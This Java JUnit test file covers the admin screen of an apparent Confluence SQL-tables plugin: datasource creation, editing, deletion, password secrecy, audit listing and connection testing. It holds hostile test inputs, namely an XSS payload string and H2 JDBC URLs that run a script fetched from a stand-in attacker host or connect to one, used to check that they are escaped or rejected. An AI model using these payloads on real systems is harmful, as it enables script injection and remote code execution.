package com.sqltables.confluence.admin;

import com.sqltables.confluence.audit.AuditEntry;
import com.sqltables.confluence.datasource.ConnectionKind;
import com.sqltables.confluence.datasource.Datasource;
import com.sqltables.confluence.datasource.DatasourceSettings;
import com.sqltables.confluence.query.SavedQuerySettings;
import org.junit.After;
import org.junit.Before;
import org.junit.Rule;
import org.junit.Test;
import org.junit.rules.TemporaryFolder;

import java.io.IOException;
import java.util.List;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertFalse;
import static org.junit.Assert.assertNotNull;
import static org.junit.Assert.assertTrue;

/** The admin screen's behaviour for an authorised administrator, on real stores, templates and texts. */
public class AdminServletTest {
    private static final String ACTOR = AdminFixture.ADMIN.getStringValue();
    private static final String XSS = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>";

    @Rule
    public TemporaryFolder folder = new TemporaryFolder();

    private AdminFixture fixture;

    @After
    public void tearDown() {
        fixture.close();
    }

    @Before
    public void setUp() throws IOException {
        fixture = new AdminFixture(folder.newFolder("shared").toPath());
    }

    private Datasource stored(String name, String password) {
        return fixture.service.create(DatasourceSettings.builder().name(name).connectionKind(ConnectionKind.H2)
                .jdbcUrl("jdbc:h2:mem:" + Math.abs(name.hashCode())).poolSize(7).readOnly(false)
                .allowedSpaces(List.of("DEMO")).allowedGroups(List.of("analysts")).build(), password, ACTOR);
    }

    @Test
    public void root_redirectsToTheDatasourceList() throws IOException {
        FakeHttp.Response response = fixture.send(AdminFixture.get(""));
        assertEquals(FakeHttp.CONTEXT + AdminRoute.BASE + "/datasources", response.location());
    }

    @Test
    public void list_showsKindAccessPoolSizeSpacesGroupsAndSavedQueryCount() throws IOException {
        Datasource sales = stored("sales", null);
        fixture.savedQueryStore.create(new SavedQuerySettings("q1", sales.getId(), "SELECT 1", null, null), ACTOR);
        fixture.savedQueryStore.create(new SavedQuerySettings("q2", sales.getId(), "SELECT 2", null, null), ACTOR);

        FakeHttp.Response response = fixture.send(AdminFixture.get("/datasources"));

        assertEquals(200, response.status);
        String row = rowOf(response.body(), sales.getId());
        assertTrue(row, row.contains(">sales</a>"));
        assertTrue(row, row.contains("<td>H2 (in memory)</td>"));
        assertTrue(row, row.contains("read-write"));
        assertTrue(row, row.contains("<td>7</td>"));
        assertTrue(row, row.contains(">DEMO</span>"));
        assertTrue(row, row.contains(">analysts</span>"));
        assertTrue(row, row.contains("<td>2</td>"));
        assertTrue(row, row.contains("not started (opens on first use)"));
        assertTrue(response.body().contains("<meta name=\"decorator\" content=\"atl.admin\"/>"));
    }

    @Test
    public void newForm_namesTheDatabasesAsPeopleDo_andShowsWhatAJdbcUrlLooksLike() throws IOException {
        String form = fixture.send(AdminFixture.get("/datasources/new")).body();

        assertTrue(form, form.contains(">PostgreSQL</option>"));
        assertTrue(form, form.contains(">Microsoft SQL Server</option>"));
        assertFalse(form, form.contains(">POSTGRESQL</option>"));
        assertTrue(form, form.contains("jdbc:postgresql://db.example.com:5432/sales"));
        assertTrue(form, form.contains("jdbc:h2:mem:sales (H2 in memory only)"));
        assertTrue(form, form.contains("one name=value per line"));
    }

    @Test
    public void create_hostileValues_areStoredAsTyped_andShownInert() throws IOException {
        FakeHttp.Response created = fixture.send(AdminFixture.datasourceForm(AdminFixture.post("/datasources/save"), XSS)
                .param("description", XSS).param("allowedSpaces", XSS));
        assertEquals(created.body(), 303, created.status);
        assertEquals(FakeHttp.CONTEXT + AdminRoute.BASE + "/datasources?done=created", created.location());

        String list = fixture.send(AdminFixture.get("/datasources").param("done", "created")).body();
        assertFalse(list, list.contains("<script>alert(1)"));
        assertFalse(list, list.contains("<img src=x"));
        assertTrue(list, list.contains("&lt;script&gt;alert(1)&lt;/script&gt;&quot;&#39;&gt;&lt;img src=x onerror=alert(2)&gt;"));
        assertTrue(list, list.contains("The datasource was created."));

        Datasource stored = fixture.datasourceStore.findByName(XSS).orElseThrow();
        String form = fixture.send(AdminFixture.get("/datasources/edit").param("id", String.valueOf(stored.getId()))).body();
        assertFalse(form, form.contains("<script>alert(1)"));
        assertTrue(form, form.contains("value=\"&lt;script&gt;"));
    }

    @Test
    public void done_unknownValue_isNotReflected() throws IOException {
        String body = fixture.send(AdminFixture.get("/datasources").param("done", XSS)).body();
        assertFalse(body.contains("alert"));
        assertFalse(body.contains("sql-tables-done"));
    }

    @Test
    public void save_wrongTypes_redisplaysTheFormWithFieldMessages_andTheTypedValuesEscaped() throws IOException {
        FakeHttp.Response response = fixture.send(AdminFixture.datasourceForm(AdminFixture.post("/datasources/save"), XSS)
                .param("poolSize", "lots").param("connectionKind", "ACCESS97").param("password", "typed-secret"));

        assertEquals(400, response.status);
        assertTrue(response.body(), response.body().contains("data-field=\"poolSize\">must be a whole number"));
        assertTrue(response.body(), response.body().contains("data-field=\"connectionKind\">must be one of"));
        assertTrue(response.body().contains("value=\"&lt;script&gt;alert(1)"));
        assertFalse(response.body().contains("typed-secret"));
        assertEquals(0, fixture.datasourceCount());
    }

    @Test
    public void save_invalidValues_showEveryFieldMessage_fromTheUrlPolicyAndTheStore() throws IOException {
        FakeHttp.Response dangerous = fixture.send(AdminFixture.datasourceForm(AdminFixture.post("/datasources/save"), "x")
                .param("jdbcUrl", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://attacker/x.sql'"));
        assertEquals(400, dangerous.status);
        assertTrue(dangerous.body(), dangerous.body().contains("data-field=\"jdbcUrl\">"));
        assertTrue(dangerous.body(), dangerous.body().contains("INIT"));

        FakeHttp.Response outOfRange = fixture.send(AdminFixture.datasourceForm(AdminFixture.post("/datasources/save"), " ")
                .param("poolSize", "0").param("maxRows", "0"));
        assertEquals(400, outOfRange.status);
        assertTrue(outOfRange.body(), outOfRange.body().contains("data-field=\"name\">is required"));
        assertTrue(outOfRange.body(), outOfRange.body().contains("data-field=\"poolSize\">must be between 1 and 100"));
        assertTrue(outOfRange.body(), outOfRange.body().contains("data-field=\"maxRows\">must be between"));
        assertEquals(0, fixture.datasourceCount());
    }

    @Test
    public void save_duplicateName_isReportedOnTheNameField() throws IOException {
        stored("Sales", null);
        FakeHttp.Response response = fixture.send(AdminFixture.datasourceForm(AdminFixture.post("/datasources/save"), "sales"));
        assertEquals(400, response.status);
        assertTrue(response.body(), response.body().contains("data-field=\"name\">A datasource named &#39;sales&#39; already exists"));
    }

    @Test
    public void editForm_neverContainsThePassword_orItsCiphertext() throws IOException {
        Datasource ds = stored("sales", "Sup3r-S3cret!");
        String ciphertext = ds.getSettings().getPasswordCiphertext();
        assertNotNull(ciphertext);

        String form = fixture.send(AdminFixture.get("/datasources/edit").param("id", String.valueOf(ds.getId()))).body();

        assertFalse(form.contains("Sup3r-S3cret!"));
        assertFalse(form.contains(ciphertext));
        assertTrue(form, form.contains("type=\"password\" id=\"ds-password\" name=\"password\" value=\"\""));
        assertTrue(form, form.contains("name=\"revision\" value=\"" + ds.getRevision() + "\""));
    }

    @Test
    public void edit_emptyPassword_keepsTheStoredOne_andANewOneReplacesIt() throws IOException {
        Datasource ds = stored("sales", "first-password");
        FakeHttp.Response kept = fixture.send(edit(ds, "sales-renamed", ds.getRevision()).param("password", ""));
        assertEquals(kept.body(), 303, kept.status);
        Datasource afterKeep = fixture.datasourceStore.get(ds.getId()).orElseThrow();
        assertEquals("sales-renamed", afterKeep.getName());
        assertEquals("first-password", fixture.passwords.decrypt(afterKeep));

        fixture.send(edit(afterKeep, "sales-renamed", afterKeep.getRevision()).param("password", "second-password"));
        assertEquals("second-password", fixture.passwords.decrypt(fixture.datasourceStore.get(ds.getId()).orElseThrow()));
    }

    @Test
    public void edit_newUrlWithEmptyPassword_asksForThePasswordOnItsField() throws IOException {
        Datasource ds = stored("sales", "stored-password");
        FakeHttp.Response response = fixture.send(edit(ds, "sales", ds.getRevision()).param("jdbcUrl", "jdbc:h2:mem:moved"));
        assertEquals(400, response.status);
        assertTrue(response.body(), response.body().contains("data-field=\"password\">must be entered again"));
    }

    @Test
    public void edit_staleRevision_isRefusedAs409_andTheNewerVersionStays() throws IOException {
        Datasource ds = stored("sales", null);
        long openedRevision = ds.getRevision();
        assertEquals(303, fixture.send(edit(ds, "first-save", openedRevision)).status);

        FakeHttp.Response second = fixture.send(edit(ds, "second-save", openedRevision));

        assertEquals(409, second.status);
        assertTrue(second.body(), second.body().contains("Someone else saved this datasource after you opened it."));
        assertTrue(second.body(), second.body().contains("value=\"second-save\""));
        assertEquals("first-save", fixture.datasourceStore.get(ds.getId()).orElseThrow().getName());
    }

    @Test
    public void delete_whileSavedQueriesUseIt_isRefusedWithTheReason() throws IOException {
        Datasource ds = stored("sales", null);
        fixture.savedQueryStore.create(new SavedQuerySettings("monthly-revenue", ds.getId(), "SELECT 1", null, null), ACTOR);

        FakeHttp.Response response = fixture.send(AdminFixture.post("/datasources/delete").param("id", String.valueOf(ds.getId())));

        assertEquals(409, response.status);
        assertTrue(response.body(), response.body().contains("is used by 1 saved query (&#39;monthly-revenue&#39;)"));
        assertTrue(fixture.datasourceStore.get(ds.getId()).isPresent());
    }

    @Test
    public void delete_unused_removesIt_andAuditsIt() throws IOException {
        Datasource ds = stored("sales", null);
        FakeHttp.Response response = fixture.send(AdminFixture.post("/datasources/delete").param("id", String.valueOf(ds.getId())));
        assertEquals(303, response.status);
        assertFalse(fixture.datasourceStore.get(ds.getId()).isPresent());
        assertEquals("datasource.delete", fixture.auditStore.list(0, 1).getItems().get(0).getEntry().getAction());
    }

    @Test
    public void delete_missing_is404() throws IOException {
        assertEquals(404, fixture.send(AdminFixture.post("/datasources/delete").param("id", "987654")).status);
        assertEquals(404, fixture.send(AdminFixture.get("/datasources/edit").param("id", "987654")).status);
    }

    @Test
    public void testConnection_reachableDatabase_answersProductAndRoundTripAsJson() throws IOException {
        FakeHttp.Response response = fixture.send(AdminFixture.datasourceForm(AdminFixture.post("/datasources/test"), "probe")
                .param("readOnly", null));

        assertEquals(response.body(), 200, response.status);
        assertTrue(response.contentType.startsWith("application/json"));
        assertTrue(response.body(), response.body().startsWith("{\"success\":true,\"failure\":null,"));
        assertTrue(response.body(), response.body().contains("\"databaseProduct\":\"H2 "));
        assertTrue(response.body(), response.body().contains("\"roundTripMillis\":"));
        assertEquals("nosniff", response.headers.get("X-Content-Type-Options"));
        assertEquals(0, fixture.datasourceCount());
    }

    @Test
    public void testConnection_dangerousUrl_answersFieldErrors_withoutConnecting() throws IOException {
        FakeHttp.Response response = fixture.send(AdminFixture.datasourceForm(AdminFixture.post("/datasources/test"), "probe")
                .param("jdbcUrl", "jdbc:h2:tcp://attacker/x"));

        assertEquals(400, response.status);
        assertTrue(response.body(), response.body().contains("\"fieldErrors\":{\"jdbcUrl\":"));
    }

    @Test
    public void testConnection_wrongPassword_answersAnActionableError() throws IOException {
        FakeHttp.Response response = fixture.send(AdminFixture.datasourceForm(AdminFixture.post("/datasources/test"), "probe")
                .param("jdbcUrl", "jdbc:h2:mem:sqltables").param("username", "sa").param("password", "wrong-password"));

        assertEquals(200, response.status);
        assertTrue(response.body(), response.body().startsWith("{\"success\":false,\"failure\":\"AUTHENTICATION_FAILED\""));
        assertFalse(response.body().contains("wrong-password"));
    }

    @Test
    public void audit_listsNewestFirst_inPagesOf50() throws IOException {
        for (int i = 1; i <= AdminServlet.AUDIT_PAGE_SIZE + 1; i++) {
            fixture.auditStore.append(AuditEntry.builder("test.event", "thing").actor(ACTOR).objectName("event-" + i).build());
        }

        String first = fixture.send(AdminFixture.get("/audit")).body();
        String second = fixture.send(AdminFixture.get("/audit").param("page", "1")).body();

        assertTrue(first.indexOf("event-51<") < first.indexOf("event-50<"));
        assertFalse(first, first.contains("event-1<"));
        assertTrue(first, first.contains("/audit?page=1\""));
        assertTrue(second, second.contains("event-1<"));
        assertTrue(second, second.contains("/audit?page=0\""));
    }

    @Test
    public void audit_namesWhoActedByFullName_escaped_withTheUserKeyKeptAsATooltip() throws IOException {
        fixture.auditStore.append(AuditEntry.builder("test.event", "thing").actor(ACTOR).objectName("named").build());
        fixture.auditStore.append(AuditEntry.builder("test.event", "thing").objectName("anonymous").build());

        String body = fixture.send(AdminFixture.get("/audit")).body();

        assertTrue(body, body.contains("<td title=\"" + ACTOR + "\">Ada &lt;Admin&gt;</td>"));
        assertTrue(body, body.contains("anonymous<"));
    }

    @Test
    public void settings_showsTheUsageReportDecisionForm() throws IOException {
        FakeHttp.Response response = fixture.send(AdminFixture.get("/settings"));
        assertEquals(200, response.status);
        assertTrue(response.body().contains("Usage report"));
        assertTrue(response.body().contains("action=\"" + FakeHttp.CONTEXT + AdminRoute.BASE + "/settings/save\""));
    }

    private static FakeHttp.Request edit(Datasource ds, String name, long revision) {
        return AdminFixture.datasourceForm(AdminFixture.post("/datasources/save"), name)
                .param("jdbcUrl", ds.getSettings().getJdbcUrl())
                .param("id", String.valueOf(ds.getId())).param("revision", String.valueOf(revision));
    }

    private static String rowOf(String body, long id) {
        int start = body.indexOf("data-datasource-id=\"" + id + "\"");
        assertTrue(body, start >= 0);
        return body.substring(start, body.indexOf("</tr>", start));
    }
}
